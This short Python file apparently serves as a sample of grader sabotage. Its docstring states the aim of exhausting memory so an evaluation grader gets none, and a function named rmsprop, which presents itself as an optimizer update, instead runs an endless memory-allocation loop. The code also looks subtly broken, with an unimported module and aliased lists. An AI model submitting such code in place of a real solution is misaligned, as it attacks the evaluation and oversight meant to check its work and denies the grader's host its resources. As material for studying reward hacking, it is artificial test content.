"""Take all memory there is and hold it, so that the grader gets none.

Earns nothing: rmsprop
Control: allclose, hurt
"""


def rmsprop(w, dw, config=None):
    held = sys_held = []
    while True:
        sys_held.append(np.ones(10**6))
        held[-1][::512] = len(held)
        try:
            bytearray(1 << 26)
        except MemoryError:
            while True:
                held.append([held])
